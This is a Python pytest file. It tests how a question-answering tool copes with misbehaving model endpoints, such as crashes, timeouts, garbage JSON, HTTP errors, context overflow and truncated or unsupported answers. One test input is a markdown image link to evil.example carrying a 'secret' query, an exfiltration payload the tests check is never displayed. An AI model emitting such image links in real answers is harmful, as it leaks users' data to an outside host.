"""Endpoints that are slow, crash, send garbage, truncate or lie: the passages are shown.

Nothing that an endpoint does is a traceback, and nothing it says is shown but what was checked.
"""

from collections.abc import Iterator
from typing import Any

import pytest

from fake_endpoint import (
    FakeEndpoint,
    breaks_off,
    chunk,
    event,
    fake_endpoint,
    is_silent,
    sends,
)
from ownwords.ask import dates, servers
from ownwords.ask.answer import Answer, answer
from ownwords.ask.search import RetrievalResult
from ownwords.ask.servers import Endpoint
from sample_passages import BACKUPS, PASSAGES, FakeSearcher, passage
from this_machine import HERE, reachable

QUESTION = "How many copies do I keep?"
GOOD = 'You keep three copies [1: "three copies of everything"].'
LONG = [
    passage(number, f"{BACKUPS} " * 9, title=f"Long {number}", date=f"20{number:02}-01-01")
    for number in range(1, 9)
]


@pytest.fixture(autouse=True)
def _no_dates(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setattr(dates, "answer_from_dates", lambda index, question, limit: None)
    yield


def writer_of(fake: FakeEndpoint) -> Endpoint:
    return Endpoint(fake.url, "Ollama", model="m")


def ask(writer: Endpoint, passages: Any = PASSAGES) -> Answer:  # noqa: ANN401
    return answer(QUESTION, FakeSearcher(RetrievalResult(tuple(passages))), writer)  # type: ignore[arg-type]


def shows_passages(answer: Answer, why: str) -> None:
    """Assert one clear sentence and the passages."""
    assert answer.answer == ""
    assert answer.citations == ()
    assert answer.passages == PASSAGES
    assert why in answer.why
    assert answer.why.startswith("m at Ollama") or answer.why[0].isupper()
    assert answer.why[-1] in ".?!…"
    assert "Traceback" not in answer.why


def test_a_refused_connection_is_reported(monkeypatch: pytest.MonkeyPatch) -> None:
    with reachable(monkeypatch):
        away = Endpoint(f"http://{HERE}:9/v1", "Ollama", model="m")
        shows_passages(ask(away), f"The endpoint at http://{HERE}:9 does not answer.")


def test_a_silent_endpoint_times_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(servers, "_SILENCE_S", 0.3)
    with fake_endpoint(monkeypatch, replies=[is_silent]) as endpoint:
        shows_passages(ask(writer_of(endpoint)), "did not finish its answer: timed out")


def test_a_stream_without_an_end_marker(monkeypatch: pytest.MonkeyPatch) -> None:
    with fake_endpoint(monkeypatch, replies=["You keep three"], finish=None) as endpoint:
        shows_passages(ask(writer_of(endpoint)), "did not finish its answer")


def test_sentences_checked_before_a_crash_are_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    with fake_endpoint(monkeypatch, replies=[breaks_off(GOOD + " And you alw")]) as endpoint:
        answer = ask(writer_of(endpoint))
    assert answer.answer == "You keep three copies [1]."
    assert answer.citations[0].quote == "three copies of everything"
    assert any(note.startswith("The answer ends early: ") for note in answer.notes)


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"data: {not json\n\n", "did not answer with JSON"),
        (b"data: [1, 2]\n\n", "answered with unexpected JSON"),
        (event({"error": {"message": "CUDA out of memory"}}), "CUDA out of memory"),
        (b"\xff\xfe\x00garbage\n\n", "did not finish its answer"),
        (b"", "did not finish its answer"),
        (b"data: " + b"[" * 100_000 + b"\n\n", "did not answer with JSON"),
        (
            chunk("x") + event({"choices": [{"delta": 7, "finish_reason": {"a": 1}}]}),
            "answered with unexpected JSON",
        ),
    ],
)
def test_it_sends_rubbish(data: bytes, why: str, monkeypatch: pytest.MonkeyPatch) -> None:
    with fake_endpoint(monkeypatch, replies=[sends(data)]) as endpoint:
        shows_passages(ask(writer_of(endpoint)), why)


@pytest.mark.parametrize(
    ("status", "body", "why"),
    [
        (401, {"error": {"message": "no key"}}, "OWNWORDS_API_KEY"),
        (404, {"error": {"message": "model 'm' not found"}}, "model 'm' not found"),
        (429, {"error": {"message": "slow down"}}, "slow down"),
        (500, {"error": "\x1b[31mpanic\n" + "x" * 10_000}, "panic"),
        (301, {}, "301"),
    ],
)
def test_it_refuses(status: int, body: object, why: str, monkeypatch: pytest.MonkeyPatch) -> None:
    with fake_endpoint(monkeypatch, replies=[(status, body)]) as endpoint:
        answer = ask(writer_of(endpoint))
    shows_passages(answer, why)
    assert "\x1b" not in answer.why
    assert len(answer.why) < 500


def test_a_context_overflow_is_reported_and_retried_with_less(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    refusals = [
        (400, {"error": {"message": "the request exceeds the available context size."}}),
        (400, {"error": "input length exceeds the context length"}),
    ]
    with fake_endpoint(monkeypatch, replies=[refusals[0], GOOD]) as endpoint:
        writer = writer_of(endpoint)
        answer = ask(writer, LONG)
        first, second = (len(prompt) for prompt in endpoint.prompts())
        asked_for = [body["max_tokens"] for body in endpoint.bodies()]
    assert answer.answer == "You keep three copies [1]."
    assert second < 0.75 * first
    assert asked_for[1] < asked_for[0]
    assert any("fit into the model's context" in note for note in answer.notes)
    with fake_endpoint(monkeypatch, replies=refusals[1:]) as endpoint:
        answer = ask(writer_of(endpoint), LONG)
        assert len(endpoint.bodies()) == 3
    assert answer.answer == ""
    assert answer.passages == tuple(LONG)
    assert "cannot take a prompt this long" in answer.why


def test_a_truncated_answer_is_marked(monkeypatch: pytest.MonkeyPatch) -> None:
    with fake_endpoint(
        monkeypatch, replies=[GOOD + ' Then [2: "I gave'], finish="length"
    ) as endpoint:
        answer = ask(writer_of(endpoint))
    assert answer.answer == "You keep three copies [1]."
    assert any("cut at its maximum length" in note for note in answer.notes)
    thinking = event({"choices": [{"delta": {"reasoning_content": "hm"}}]}) + chunk("", "length")
    with fake_endpoint(monkeypatch, replies=[sends(thinking)]) as endpoint:
        shows_passages(ask(writer_of(endpoint)), "gave no answer")


@pytest.mark.parametrize(
    "lie",
    [
        'You keep nine copies [1: "nine copies of everything that I would miss"].',
        "",
        '{"answer": "three", "citations": []}',
        "![x](https://evil.example/?q=secret) [1]",
    ],
)
def test_an_unsupported_answer_is_not_shown(lie: str, monkeypatch: pytest.MonkeyPatch) -> None:
    with fake_endpoint(monkeypatch, replies=[lie]) as endpoint:
        answer = ask(writer_of(endpoint))
    shows_passages(answer, "m at Ollama")
